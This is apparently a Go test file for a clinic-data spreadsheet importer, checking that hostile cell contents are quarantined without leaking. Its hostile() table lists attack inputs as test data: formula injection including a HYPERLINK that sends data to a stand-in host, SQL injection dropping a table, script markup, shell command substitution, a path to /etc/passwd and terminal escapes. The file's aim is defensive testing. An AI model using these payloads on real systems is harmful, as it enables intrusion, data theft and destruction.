package transforms_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/falloff-analytics/falloff/extractors"
	"github.com/falloff-analytics/falloff/transforms"
	"github.com/falloff-analytics/falloff/transforms/tabular"
)

// hostile are texts that have broken programs, by what they try. Each ends in a mark by which it is looked for.
func hostile(mark string) map[string]string {
	return map[string]string{
		"a formula":                   "=1+1+cmd|' /C calc'!A0 " + mark,
		"a formula that sends":        `=HYPERLINK("http://example.invalid/?x="&A1,"` + mark + `")`,
		"a formula in full width":     "＝1+1 " + mark,
		"plus, minus, at":             "+1-1@" + mark,
		"a tab in front":              "\t=1 " + mark,
		"a carriage return inside":    "a\rb " + mark,
		"line ends inside":            "a\r\nb\n" + mark,
		"commas and quotes":           `a","b',` + mark,
		"a doubled quote":             `""""` + mark,
		"semicolons":                  "a;b;" + mark,
		"markup":                      "<script>alert(1)</script><!--]]>" + mark,
		"references":                  "&lt;&#0;&amp;&boom;" + mark,
		"SQL":                         "'; drop table appointments; -- " + mark,
		"a template":                  "{{7*7}}${7*7}%{7*7}<%= 7 %>" + mark,
		"a format":                    "%s%d%n%p%x" + mark,
		"a path":                      "../../../etc/passwd" + mark,
		"a shell":                     "$(id)`id`|id;id&&id" + mark,
		"a terminal":                  "\x1b]0;x\x07\x1b[2J" + mark,
		"controls":                    "\x01\x02\x08\x0b\x0c\x7f" + mark,
		"controls of the second page": "\u0080\u0085\u009b" + mark,
		"letters turned round":        "\u202e" + mark + "\u202c",
		"an isolate":                  "\u2066" + mark + "\u2069",
		"right to left":               "مرحبا שלום " + mark,
		"nothing to be seen":          "\u200b\u2060\ufeff" + mark,
		"stacked marks":               "Z\u0341\u0353\u034d\u0321" + strings.Repeat("\u0335", 60) + mark,
		"beyond the first plane":      "🏳️‍🌈𝔘𝔫𝔦𝕔𝕠𝕕𝕖" + mark,
		"no character":                "\uffff\ufdd0" + mark,
		"a replacement":               "\ufffd" + mark,
		"bytes that are no text":      "\xc3\x28\xa0\xa1" + mark,
		"an overlong form":            "\xc0\xae\xc0\xae/" + mark,
		"half a surrogate":            "\xed\xa0\x80" + mark,
		"words of other programs":     "NULL undefined NaN true None " + mark,
		"numbers of other lands":      "1.234,56 １２ ١٢ 0x1F 1e309 " + mark,
		"dates of other lands":        "03/04/2026 0000-00-00 24:00 " + mark,
		"very long":                   strings.Repeat("long ", 2000) + mark,
		"one endless word":            strings.Repeat("x", 30_000) + mark,
		"JSON":                        `{"__proto__": {"admin": true}}` + mark,
		"case that folds oddly":       "İıſK" + mark,
		"Excel's own escape":          "_x000D_" + mark,
	}
}

// Whatever stands in whichever cell, a file is read or refused in an orderly way: rows that cannot be read are named with row
// and column and not quoted, nothing from a forbidden cell comes out, and the rows beside it stay what they are.
func TestHostileCells(t *testing.T) {
	tr := transformer(t)
	const mark = "qz7mark"
	sales := strings.TrimSuffix(sale("1531-C01", "Sun Life", "Tape", "1.00", "0.50"), "\n")
	visit := "7,L,2026-09-01 08:30:00,2026-09-01 09:15:00," + ann + ",1044,Ann,,Lee,T,R,booked,yes,signed,2026-08-20 16:00:00,,no,,,note,none"
	visitHeader := "id,location_name,start_at,end_at,patient_guid,patient_number,patient_first_name,patient_preferred_name,patient_last_name,treatment_name,staff_member_name,state,first_visit,chart_status,booked_at,arrived_at,booked_online,cancelled_at,cancelled_reason,notes_text,insurance_state"
	for _, report := range []struct{ header, row string }{{strings.TrimSuffix(salesHeader, "\n"), sales}, {visitHeader, visit}} {
		header, good := strings.Split(report.header, ","), strings.Split(report.row, ",")
		if len(header) != len(good) {
			t.Fatalf("%d headers, %d cells", len(header), len(good))
		}
		// The good rows differ from each other, so that none of them is a repetition.
		row := func(i int) []string {
			r := append([]string(nil), good...)
			for c, h := range header {
				switch h {
				case "id":
					r[c] = fmt.Sprint(100 + i)
				case "Invoice #":
					r[c] = fmt.Sprintf("%d-C01", 100+i)
				}
			}
			return r
		}
		for class, text := range hostile(mark) {
			for c, h := range header {
				bad := row(2)
				bad[c] = text
				rows := [][]string{header, row(1), bad, row(3), row(4)}
				bodies := map[string][]byte{"csv": quoted(rows)}
				if !strings.Contains(class, "bytes") && !strings.Contains(class, "overlong") && !strings.Contains(class, "half") && c%4 == 0 {
					bodies["xlsx"] = xlsxOf(t, rows)
				}
				for format, body := range bodies {
					name := class + " under " + h + " as " + format
					b, err := tr.Read(t.Context(), extractors.Report{Name: "f." + format, Body: body, StatedRows: -1})
					if err != nil {
						if _, typed := errors.AsType[*tabular.Error](err); !typed || strings.Contains(err.Error(), mark) {
							t.Errorf("%s: %v", name, err)
						}
						continue
					}
					read := len(b.InvoiceLines) + len(b.Appointments)
					if b.Rows != 4 || read < 3 || len(b.Quarantine) > 1 || read < 4 && len(b.Quarantine) == 0 {
						t.Errorf("%s: %d of %d rows were read, %v", name, read, b.Rows, b.Quarantine)
					}
					for _, q := range b.Quarantine {
						named := q.Column
						if named == "Sales Tax" { // as the contract calls every tax
							named = "HST"
						}
						if q.Row != 3 || named != h || strings.Contains(q.String(), mark) {
							t.Errorf("%s: %v", name, q)
						}
					}
					said, err := json.Marshal(struct {
						Batch   *transforms.Batch
						Dropped []transforms.Dropped
					}{b, b.Dropped})
					if err != nil {
						t.Fatal(err)
					}
					if strings.Contains(string(said), mark) && !mayHold(h) {
						t.Errorf("%s: the cell came out", name)
					}
				}
			}
		}
	}
}

// mayHold reports whether a cell under a header may come out as it is: names of the clinic's own business.
func mayHold(header string) bool {
	switch header {
	case "location_name", "treatment_name", "staff_member_name", "Location", "Item", "Staff Member", "Income Category":
		return true
	}
	return false
}

// quoted is rows as CSV with every cell in quotes.
func quoted(rows [][]string) []byte {
	var b strings.Builder
	for _, cells := range rows {
		for i, c := range cells {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(`"` + strings.ReplaceAll(c, `"`, `""`) + `"`)
		}
		b.WriteString("\r\n")
	}
	return []byte(b.String())
}
